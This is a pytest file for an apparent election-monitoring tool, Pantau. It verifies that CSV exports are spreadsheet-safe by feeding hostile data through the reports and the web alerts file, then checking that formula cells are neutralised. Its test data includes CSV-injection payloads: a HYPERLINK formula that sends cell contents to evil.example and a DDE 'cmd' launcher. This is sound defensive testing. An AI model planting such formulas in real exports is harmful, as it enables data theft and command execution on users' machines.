"""Every CSV Pantau writes is safe to open in a spreadsheet (issue 15, deliverable 7): UTF-8 with a BOM, and
no cell that starts like a formula (=, +, -, @, tab, CR; OWASP "CSV Injection"), through the one helper
``pantau.domain.csvsafe``.

The outputs (``pantau report``'s claims.csv, actors.csv, stages.csv and the web's alerts.csv) are made
from hostile data in real SQLite databases and scanned cell by cell; a source scan fails if any module
writes CSV with the standard library directly, bypassing the helper.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy.orm import Session
from starlette.testclient import TestClient
from typer.testing import CliRunner

from flows.resources import engine_for, reset
from pantau.cli.main import app as cli
from pantau.domain.config import SourceConfig
from pantau.domain.csvsafe import BOM, FORMULA_STARTS, SafeWriter, safe_cell
from pantau.domain.records import CollectedItem
from pantau.web.app import create_app
from pantau.web.auth import hash_password
from storage import accounts
from storage import claims as store
from storage import repository as repo
from storage.db import make_engine, migrate

ROOT = Path(__file__).resolve().parents[1]
HELPER = "pantau/domain/csvsafe.py"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+62 812 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tTPS 3",
    "\r=1+1",
]
T0 = datetime(2024, 11, 25, 3, tzinfo=UTC)


def _scan(raw: bytes, name: str) -> list[list[str]]:
    """The rows of a CSV file, asserting the BOM and that no cell starts like a formula."""
    assert raw.startswith(BOM.encode("utf-8")), f"{name}: no UTF-8 byte-order mark"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    raw_formulas = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not raw_formulas, f"{name}: formula cells {raw_formulas}"
    return rows


def test_safe_cell_neutralises_every_formula_start():
    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
    assert safe_cell("TPS 5 Omben") == "TPS 5 Omben" and safe_cell(3.5) == "3.5"
    assert safe_cell(["Omben", "=Torjun"]) == "Omben, =Torjun"  # only a cell's start can make a formula
    assert safe_cell(["=Omben", "Torjun"]) == "'=Omben, Torjun" and safe_cell(None) == ""
    # plain numbers and the lone "-" placeholder cannot run; anything more after a sign is quoted
    assert [safe_cell(v) for v in ("-", "-3.50", "+62", -2)] == ["-", "-3.50", "+62", "-2"]
    assert [safe_cell(v) for v in ("-2+3", "+62 812", "--")] == ["'-2+3", "'+62 812", "'--"]
    buffer = io.StringIO()
    writer = SafeWriter(buffer)
    writer.writerow(["a", FORMULAS[0]])
    assert buffer.getvalue().startswith(BOM) and _scan(buffer.getvalue().encode(), "buffer")[0][1] == (
        "'" + FORMULAS[0]
    )


def _csv_writers(path: Path) -> list[str]:
    """Uses of csv.writer / csv.DictWriter (attribute or imported name) in one module."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"csv.{node.attr}")
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [f"from csv import {a.name}" for a in node.names if a.name in ("writer", "DictWriter")]
    return found


def test_no_module_writes_csv_around_the_helper():
    bypass = []
    for package in ("pantau", "flows", "storage", "sources", "classifiers"):
        for path in sorted((ROOT / package).rglob("*.py")):
            rel = path.relative_to(ROOT).as_posix()
            if rel != HELPER:
                bypass += [f"{rel}: {use}" for use in _csv_writers(path)]
    assert not bypass, "write CSV through pantau.domain.csvsafe.SafeWriter:\n" + "\n".join(bypass)
    assert _csv_writers(ROOT / HELPER)  # the scan does see a writer where there is one


@pytest.fixture
def hostile_db(tmp_path):
    """A claim whose text, districts and answering actor are formulas, answered by a debunk."""
    reset()
    url = f"sqlite:///{tmp_path / 'csv.db'}"
    with Session(engine_for(url)) as session, session.begin():
        ids = repo.sync_sources(session, [SourceConfig(name="social", kind="social_export", location="x")])
        posts = repo.upsert_items(
            session,
            ids["social"],
            None,
            [
                CollectedItem(
                    source="social",
                    title=FORMULAS[0],
                    text="x",
                    published_at=T0,
                    url="https://social.example/1",
                ),
                CollectedItem(
                    source="social", text="Klarifikasi", published_at=T0, url="https://social.example/2"
                ),
            ],
        ).ids
        repo.set_tags(
            session, [{"id": posts[0], "stage": "quiet_period", "districts": ["-Omben", "@Torjun"]}]
        )
        claim = store.create_claim(session, FORMULAS[0])
        store.assign_items(session, claim, posts[:1])
        store.link_counter_narrative(
            session,
            claim_id=claim,
            item_id=posts[1],
            actor=FORMULAS[3],
            actor_category="other",
            published_at=T0,
            confidence=0.9,
            attribution="mentioned",
        )
        store.refresh_claim_spread(session, [claim])
    yield url
    reset()


def test_report_csvs_have_a_bom_and_no_formula_cells(hostile_db, tmp_path):
    out = tmp_path / "report"
    result = CliRunner().invoke(cli, ["report", "--db", hostile_db, "-o", str(out), "--format", "csv"])
    assert result.exit_code == 0, result.output
    names = sorted(p.name for p in out.glob("*.csv"))
    assert names == ["actors.csv", "claims.csv", "stages.csv"]
    for name in names:
        _scan((out / name).read_bytes(), name)
    claims = list(csv.DictReader(io.StringIO((out / "claims.csv").read_text(encoding="utf-8-sig"))))
    assert claims[0]["canonical_text"].startswith("'" + FORMULAS[0])  # kept, as text
    assert claims[0]["districts"] == "'-Omben; @Torjun" and claims[0]["first_answer_actor"] == "'@SUM(1+1)"


def test_web_alerts_csv_has_a_bom_and_no_formula_cells(tmp_path):
    engine = make_engine(f"sqlite:///{tmp_path / 'web.db'}")
    migrate(engine)
    with Session(engine) as session, session.begin():
        src = repo.sync_sources(session, [SourceConfig(name="evil", kind="rss", location="x")])
        stored = repo.upsert_items(
            session,
            src["evil"],
            None,
            [
                CollectedItem(source="evil", title=f, text=f, url=f"https://x.example/{i}", published_at=T0)
                for i, f in enumerate(FORMULAS)
            ],
            now=T0,
        ).ids
        for item_id, formula in zip(stored, FORMULAS, strict=True):
            repo.set_item_tags(
                session, item_id, lang="ind", stage="campaign", districts=["+Omben"], actors=["@Polres"]
            )
            repo.raise_alert(
                session,
                kind="flagged_item",
                severity="high",
                signal="hoax",
                item_id=item_id,
                district="-Omben",
                reason=formula,
                dedupe_key=f"f:{item_id}",
                now=T0,
            )
        org = accounts.ensure_organisation(session, "Bawaslu Sampang", "bawaslu")
        accounts.create_user(session, "analis", hash_password("kata-sandi-uji-123"), "analyst", org)
    app = create_app(engine, secret_key="s" * 40)
    with TestClient(app) as client:
        token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text).group(1)
        client.post(
            "/login",
            data={"username": "analis", "password": "kata-sandi-uji-123", "csrf_token": token, "next": "/"},
        )
        response = client.get("/alerts.csv")
    assert response.status_code == 200
    rows = _scan(response.content, "alerts.csv")
    assert len(rows) == 1 + len(FORMULAS)
    reasons = {r[rows[0].index("reason")] for r in rows[1:]}
    assert reasons == {"'" + f for f in FORMULAS}
    engine.dispose()
